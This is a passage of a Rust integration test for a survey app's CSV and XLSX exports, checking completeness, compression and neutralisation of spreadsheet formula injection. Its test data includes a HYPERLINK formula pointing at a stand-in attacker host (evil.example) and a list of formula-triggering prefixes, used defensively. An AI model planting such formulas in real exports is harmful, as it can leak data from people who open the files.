        Value::Text(text.into())
    }

    /// The CSV field.
    fn csv(&self) -> String {
        match self {
            Value::Text(s) => neutralised(s),
            Value::Int(n) => n.to_string(),
            Value::Points(p) => scoring::Points::from_hundredths(*p as u64)
                .unwrap()
                .to_string(),
            Value::Empty => String::new(),
        }
    }

    /// Whether an XLSX cell holds this value: text as text (less what XML cannot hold), numbers
    /// as numbers.
    fn is_in(&self, cell: &Data) -> bool {
        match (self, cell) {
            (Value::Text(s), Data::String(c)) => {
                *c == s.replace(|c: char| c < ' ' && !"\t\n\r".contains(c), "")
            }
            (Value::Text(s), Data::Empty) => s.is_empty(),
            (Value::Int(n), Data::Float(f)) => *f == *n as f64,
            (Value::Int(n), Data::Int(i)) => i == n,
            (Value::Points(p), Data::Float(f)) => (f * 100.0).round() as i64 == *p,
            (Value::Empty, Data::Empty) => true,
            _ => false,
        }
    }
}

/// Stored rows by the value of their key column (the export's own order is checked elsewhere),
/// each as the columns to compare.
type Stored = BTreeMap<String, Vec<(String, Value)>>;

/// A response as stored: id, time, commune code, desk code, channel, excluded, commune name,
/// validity from and to, code and name of the unit its answers count for, province code.
type StoredResponse = (
    i64,
    i64,
    String,
    String,
    String,
    i64,
    String,
    String,
    Option<String>,
    String,
    String,
    String,
);

/// Every response the default export selects (excluded ones left out), read back with SQL.
async fn stored_responses(app: &TestApp, questions: &[String]) -> Stored {
    let pool = app.store().pool();
    // The unit columns: the desk's commune version, its province (its parent or its district's)
    // and the unit its answers count for.
    let responses: Vec<StoredResponse> = sqlx::query_as(
        "select r.id, r.created_at, c.code, d.public_code, r.channel, r.excluded, \
           c.name, c.valid_from, c.valid_to, t.code, t.name, p.code \
         from responses r join desks d on d.id = r.desk_id \
         join admin_units c on c.id = d.commune_id \
         join admin_units t on t.id = c.answers_to \
         join admin_units p on p.level = 'province' and (p.id = c.parent_id or p.id = \
           (select g.parent_id from admin_units g where g.id = c.parent_id)) \
         where r.excluded = 0",
    )
    .fetch_all(pool)
    .await
    .unwrap();
    let answers: Vec<(i64, String, Option<i64>, Option<String>)> =
        sqlx::query_as("select response_id, question_id, value_int, value_text from answers")
            .fetch_all(pool)
            .await
            .unwrap();
    let mut by_response: BTreeMap<i64, BTreeMap<String, Value>> = BTreeMap::new();
    for (response, question, int, text) in answers {
        let value = match (int, text) {
            (_, Some(text)) => Value::Text(text),
            (Some(n), None) => Value::Int(n),
            (None, None) => Value::Empty,
        };
        by_response
            .entry(response)
            .or_default()
            .insert(question, value);
    }
    responses
        .into_iter()
        .map(|r| {
            let (id, at, commune, desk, channel, excluded) = (r.0, r.1, r.2, r.3, r.4, r.5);
            let mut row = vec![
                ("response_id".to_string(), Value::Int(id)),
                ("submitted_at_utc".to_string(), Value::text(utc_text(at))),
                ("submitted_at_vn".to_string(), Value::text(vn_text(at))),
                ("province_code".to_string(), Value::text(r.11)),
                ("commune_code".to_string(), Value::text(commune)),
                ("commune_at_time".to_string(), Value::text(r.6)),
                ("commune_valid_from".to_string(), Value::text(r.7)),
                (
                    "commune_valid_to".to_string(),
                    Value::text(r.8.unwrap_or_default()),
                ),
                ("commune_today_code".to_string(), Value::text(r.9)),
                ("commune_today".to_string(), Value::text(r.10)),
                ("desk_code".to_string(), Value::text(desk)),
                ("channel".to_string(), Value::text(channel)),
                ("excluded".to_string(), Value::Int(excluded)),
            ];
            let answers = by_response.remove(&id).unwrap_or_default();
            for q in questions {
                row.push((q.clone(), answers.get(q).cloned().unwrap_or(Value::Empty)));
            }
            (id.to_string(), row)
        })
        .collect()
}

/// Every commune of the latest score run, read back with SQL.
async fn stored_scores(app: &TestApp) -> Stored {
    type StoredScore = (
        String,
        i64,
        i64,
        String,
        String,
        i64,
        String,
        Option<String>,
        String,
    );
    let rows: Vec<StoredScore> = sqlx::query_as(
        "select u.code, s.total, s.passed, s.input_hash, s.output_hash, s.run_id, \
           u.valid_from, u.valid_to, p.code \
         from score_results s join admin_units u on u.id = s.unit_id \
         join admin_units p on p.id = u.parent_id and p.level = 'province' \
         where s.run_id = (select max(id) from score_runs)",
    )
    .fetch_all(app.store().pool())
    .await
    .unwrap();
    rows.into_iter()
        .map(
            |(code, total, passed, input, output, run, from, to, province)| {
                let row = vec![
                    ("province_code".to_string(), Value::text(province)),
                    ("commune_code".to_string(), Value::text(code.clone())),
                    ("commune_valid_from".to_string(), Value::text(from)),
                    (
                        "commune_valid_to".to_string(),
                        Value::text(to.unwrap_or_default()),
                    ),
                    ("total".to_string(), Value::Points(total)),
                    (
                        "passed".to_string(),
                        Value::text(if passed == 1 { "có" } else { "không" }),
                    ),
                    ("input_hash".to_string(), Value::text(input)),
                    ("output_hash".to_string(), Value::text(output)),
                    ("run_id".to_string(), Value::Int(run)),
                ];
                (code, row)
            },
        )
        .collect()
}

/// The whole audit log, read back with SQL.
async fn stored_audit(app: &TestApp) -> Stored {
    let rows: Vec<(i64, String, String, String, String, i64, i64)> = sqlx::query_as(
        "select id, actor, action, target, detail, created_at, repeats from audit_log",
    )
    .fetch_all(app.store().pool())
    .await
    .unwrap();
    rows.into_iter()
        .map(|(id, actor, action, target, detail, at, repeats)| {
            let row = vec![
                ("id".to_string(), Value::Int(id)),
                ("time".to_string(), Value::text(vn_text(at))),
                ("actor".to_string(), Value::text(actor)),
                ("action".to_string(), Value::text(action)),
                ("target".to_string(), Value::text(target)),
                ("detail".to_string(), Value::text(detail)),
                ("repeats".to_string(), Value::Int(repeats)),
            ];
            (id.to_string(), row)
        })
        .collect()
}

/// Checks a downloaded CSV against the stored rows, row for row: each stored row exactly once.
fn assert_csv_holds(what: &str, csv: &Csv, key: &str, stored: &Stored) {
    assert_eq!(csv.rows.len(), stored.len(), "{what}: rows");
    let mut seen = std::collections::BTreeSet::new();
    for row in &csv.rows {
        let id = &row[csv.col(key)];
        assert!(seen.insert(id.clone()), "{what}: {key} {id} twice");
        let expected = stored
            .get(id)
            .unwrap_or_else(|| panic!("{what}: {key} {id} is not stored"));
        for (column, value) in expected {
            assert_eq!(
                row[csv.col(column)],
                value.csv(),
                "{what}: {key} {id}, column {column}"
            );
        }
    }
}

/// Checks a downloaded XLSX sheet against the stored rows, row for row.
fn assert_xlsx_holds(what: &str, sheet: &calamine::Range<Data>, key: &str, stored: &Stored) {
    let mut rows = sheet.rows();
    let header: Vec<String> = rows
        .next()
        .expect("a header")
        .iter()
        .map(cell_text)
        .collect();
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{what}: no column {name}"))
    };
    let mut seen = std::collections::BTreeSet::new();
    for row in rows {
        let id = cell_text(&row[col(key)]);
        assert!(seen.insert(id.clone()), "{what}: {key} {id} twice");
        let expected = stored
            .get(&id)
            .unwrap_or_else(|| panic!("{what}: {key} {id} is not stored"));
        for (column, value) in expected {
            let cell = &row[col(column)];
            assert!(
                value.is_in(cell),
                "{what}: {key} {id}, column {column}: {cell:?} for {value:?}"
            );
        }
    }
    assert_eq!(seen.len(), stored.len(), "{what}: rows");
}

/// What the client says it accepts.
#[derive(Clone, Copy, Debug)]
enum Encoding {
    Identity,
    Gzip,
    Brotli,
}

/// Downloads `path` as `session` accepting `encoding`, and decodes the body as a browser does;
/// checks the server did compress when asked, so the compression layer is on the way.
async fn download(
    app: &TestApp,
    session: &Session,
    path: &str,
    encoding: Encoding,
) -> TestResponse {
    let accept = match encoding {
        Encoding::Identity => "identity",
        Encoding::Gzip => "gzip",
        Encoding::Brotli => "br",
    };
    let mut response = app
        .request(
            Request::get(path)
                .header(header::COOKIE, &session.cookie)
                .header(header::ACCEPT_ENCODING, accept)
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(response.status, StatusCode::OK, "{path} {accept}");
    let sent = response
        .headers
        .get(header::CONTENT_ENCODING)
        .map(|v| v.to_str().unwrap().to_string());
    let mut decoded = Vec::new();
    match encoding {
        Encoding::Identity => {
            assert_eq!(sent, None, "{path}");
            decoded = response.body.clone();
        }
        Encoding::Gzip => {
            assert_eq!(sent.as_deref(), Some("gzip"), "{path}");
            std::io::Read::read_to_end(
                &mut flate2::read::GzDecoder::new(&response.body[..]),
                &mut decoded,
            )
            .unwrap_or_else(|e| panic!("{path}: a whole gzip stream: {e}"));
        }
        Encoding::Brotli => {
            assert_eq!(sent.as_deref(), Some("br"), "{path}");
            std::io::Read::read_to_end(
                &mut brotli::Decompressor::new(&response.body[..], 4096),
                &mut decoded,
            )
            .unwrap_or_else(|e| panic!("{path}: a whole brotli stream: {e}"));
        }
    }
    response.body = decoded;
    response
}

/// The sheet `sheet` of a decoded XLSX body.
fn xlsx_sheet(body: &[u8], sheet: &str) -> calamine::Range<Data> {
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(body.to_vec()))
            .expect("a workbook calamine opens");
    book.worksheet_range(sheet).expect("the sheet reads")
}

/// `count` responses at Tân Phú and Phước Long, enough for many chunks of every body; comments
/// that need quoting, escaping or neutralising.
async fn seed_many(app: &TestApp, count: usize) {
    let desks = [desk_id(app, TAN_PHU).await, desk_id(app, THAC_MO).await];
    let comments = [
        Some(FORMULA),
        Some(TRICKY),
        Some("-1 điểm vì chờ lâu"),
        None,
    ];
    let answer_sets: Vec<Vec<Answer>> = (0..count)
        .map(|i| answers(1 + (i % 5) as u8, comments[i % comments.len()]))
        .collect();
    let keys: Vec<String> = (0..count).map(|i| format!("many-{i}")).collect();
    let batch: Vec<NewResponse> = (0..count)
        .map(|i| NewResponse {
            channel: if i % 7 == 0 {
                app::domain::channel::Channel::Kiosk
            } else {
                app::domain::channel::Channel::Qr
            },
            ..qr_response(
                desks[i % 2],
                &keys[i],
                vn("2026-05-01", 8, 0) + i as i64 * 1000,
                &answer_sets[i],
            )
        })
        .collect();
    app.store().insert_responses(&batch).await.unwrap();
}

async fn every_export_is_complete_with_gzip_brotli_or_no_compression(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    seed(&app).await;
    seed_many(&app, 2250).await;
    let set = app.state.criteria.iter().find(|s| s.id == SET).unwrap();
    app::scores::runs::run_all(app.store(), set, &app.state.definitions, "test")
        .await
        .unwrap();
    // The audit log spans several chunks too: sign-ins, one with a formula for a user name.
    for _ in 0..3 {
        app.try_login(FORMULA_USER, "sai mật khẩu").await;
    }
    for _ in 0..10 {
        app.login("leader25195").await;
    }
    let admin = app.login("admin").await;
    let questions = app_questions(&app);
    let responses = stored_responses(&app, &questions).await;
    let scores = stored_scores(&app).await;
    assert!(responses.len() > 2000 && scores.len() > 90);

    for encoding in [Encoding::Identity, Encoding::Gzip, Encoding::Brotli] {
        let what = |file: &str| format!("{file} ({encoding:?})");
        let get = |path: String| {
            let (app, admin) = (&app, &admin);
            async move { download(app, admin, &path, encoding).await }
        };
        let responses_csv = get("/exports/responses.csv".into()).await;
        assert_csv_holds(
            &what("responses.csv"),
            &Csv::read(&responses_csv),
            "response_id",
            &responses,
        );
        let responses_xlsx = get("/exports/responses.xlsx".into()).await;
        assert_xlsx_holds(
            &what("responses.xlsx"),
            &xlsx_sheet(&responses_xlsx.body, "Phiếu khảo sát"),
            "response_id",
            &responses,
        );
        let scores_csv = get(format!("/exports/scores.csv?criteria={SET}")).await;
        assert_csv_holds(
            &what("scores.csv"),
            &Csv::read(&scores_csv),
            "commune_code",
            &scores,
        );
        let scores_xlsx = get(format!("/exports/scores.xlsx?criteria={SET}")).await;
        assert_xlsx_holds(
            &what("scores.xlsx"),
            &xlsx_sheet(&scores_xlsx.body, "Kết quả chấm điểm"),
            "commune_code",
            &scores,
        );
        let audit = get("/admin/audit.csv".into()).await;
        // Read after the download: the download itself is not in the log.
        let stored = stored_audit(&app).await;
        assert!(stored.len() > 10);
        assert_csv_holds(&what("audit.csv"), &Csv::read(&audit), "id", &stored);

        for file in [
            &responses_csv,
            &responses_xlsx,
            &scores_csv,
            &scores_xlsx,
            &audit,
        ] {
            assert_eq!(
                file.headers[header::CACHE_CONTROL],
                "no-store",
                "personal data: {:?}",
                file.headers
            );
            let disposition = file.headers[header::CONTENT_DISPOSITION].to_str().unwrap();
            assert!(
                disposition.starts_with("attachment; filename="),
                "{disposition}"
            );
        }
    }
}

/// The question columns of the responses export, as the definitions list them.
fn app_questions(app: &TestApp) -> Vec<String> {
    server::exports::question_columns(&app.state.definitions)
}

/// Converts a CSV file to XLSX with LibreOffice, as a person opening the file in it would
/// (UTF-8, comma, double quotes; formulas evaluated, LibreOffice's default), and returns the
/// workbook; `None` when LibreOffice is not installed, which only outside CI is a loud skip.
fn open_in_libreoffice(csv: &[u8]) -> Option<calamine::Xlsx<std::io::Cursor<Vec<u8>>>> {
    let dir = std::env::temp_dir().join(format!(
        "hailong-export-{}-{:016x}",
        std::process::id(),
        rand::random::<u64>()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("export.csv"), csv).unwrap();
    let converted =
        hailong_tests::soffice_convert(&dir.join("export.csv"), "xlsx", Some("CSV:44,34,76,1"));
    let Some(path) = converted else {
        let _ = std::fs::remove_dir_all(&dir);
        return None;
    };
    let xlsx = std::fs::read(path).expect("soffice wrote the workbook");
    let _ = std::fs::remove_dir_all(&dir);
    Some(calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).expect("a workbook"))
}

/// The first sheet of a workbook and its formulas.
fn first_sheet(
    book: &mut calamine::Xlsx<std::io::Cursor<Vec<u8>>>,
) -> (calamine::Range<Data>, calamine::Range<String>) {
    let name = book.sheet_names()[0].clone();
    (
        book.worksheet_range(&name).unwrap(),
        book.worksheet_formula(&name).unwrap(),
    )
}

async fn a_spreadsheet_shows_formula_like_text_as_text(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    let desk = desk_id(&app, TAN_PHU).await;
    let comments = [
        FORMULA,
        "+84 912 345 678",
        "-1 điểm",
        "@cán bộ",
        "\tthụt lề",
    ];
    let answer_sets: Vec<Vec<Answer>> = comments.iter().map(|c| answers(5, Some(c))).collect();
    let keys: Vec<String> = (0..comments.len())
        .map(|i| format!("formula-{i}"))
        .collect();
    let batch: Vec<NewResponse> = (0..comments.len())
        .map(|i| {
            qr_response(
                desk,
                &keys[i],
                vn("2026-03-10", 8, i as i64),
                &answer_sets[i],
            )
        })
        .collect();
    app.store().insert_responses(&batch).await.unwrap();
    app.try_login(FORMULA_USER, "sai mật khẩu").await;
    let admin = app.login("admin").await;

    let responses = app
        .get_as("/exports/responses.csv", Some(&admin.cookie))
        .await;
    let audit = app.get_as("/admin/audit.csv", Some(&admin.cookie)).await;
    let xlsx = app
        .get_as("/exports/responses.xlsx", Some(&admin.cookie))
        .await;

    let csv = Csv::read(&responses);
    let written: Vec<&str> = csv.values("comment");
    let expected: Vec<String> = comments.iter().map(|c| format!("'{c}")).collect();
    assert_eq!(
        written, expected,
        "each formula-like comment starts with an apostrophe"
    );
    assert!(
        responses
            .text()
            .contains("\"'=HYPERLINK(\"\"http://evil.example/"),
        "the neutralised field stays quoted"
    );
    assert!(
        csv.values("overall").iter().all(|v| *v == "5"),
        "numbers stay numbers"
    );
    let log = Csv::read(&audit);
    assert_eq!(audit.headers[header::CACHE_CONTROL], "no-store");
    assert!(
        log.values("actor")
            .contains(&format!("'{FORMULA_USER}").as_str()),
        "{:?}",
        log.values("actor")
    );
    for (file, table) in [("responses.csv", &csv), ("audit.csv", &log)] {
        for cell in table.rows.iter().flatten() {
            let runs = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!runs, "{file}: {cell:?} would run as a formula");
        }
    }
    // XLSX cells are typed: the text is kept as typed, and no cell is a formula.
    let sheet = read_xlsx(&xlsx, "Phiếu khảo sát");
    let column = csv.col("comment");
    let texts: Vec<&Data> = sheet.rows().skip(1).map(|r| &r[column]).collect();
    let typed: Vec<Data> = comments
        .iter()
        .map(|c| Data::String(c.to_string()))
        .collect();
    assert_eq!(texts, typed.iter().collect::<Vec<_>>());
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.body.clone())).unwrap();
    let formulas = book.worksheet_formula("Phiếu khảo sát").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula"
    );

    // As LibreOffice reads the CSV files: the comment and the user name are plain text.
    let (responses, audit) = (responses.body.clone(), audit.body.clone());
    let opened = tokio::task::spawn_blocking(move || {
        open_in_libreoffice(&responses).zip(open_in_libreoffice(&audit))
    })
    .await
    .unwrap();
    let Some((mut responses, mut audit)) = opened else {
        return;
    };
    let (sheet, formulas) = first_sheet(&mut responses);
    assert_eq!(
        formulas.used_cells().find(|(_, _, f)| !f.is_empty()),
        None,
        "LibreOffice finds no formula in responses.csv"
    );
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let header: Vec<String> = rows[0].iter().map(cell_text).collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    for (row, comment) in rows[1..].iter().zip(&comments) {
        assert_eq!(row[at("comment")], Data::String(format!("'{comment}")));
        assert!(
            matches!(row[at("overall")], Data::Float(_) | Data::Int(_)),
            "a number"
        );
    }
    let (sheet, formulas) = first_sheet(&mut audit);
    assert_eq!(formulas.used_cells().find(|(_, _, f)| !f.is_empty()), None);
    assert!(sheet
        .rows()
        .any(|r| r[2] == Data::String(format!("'{FORMULA_USER}"))));
}
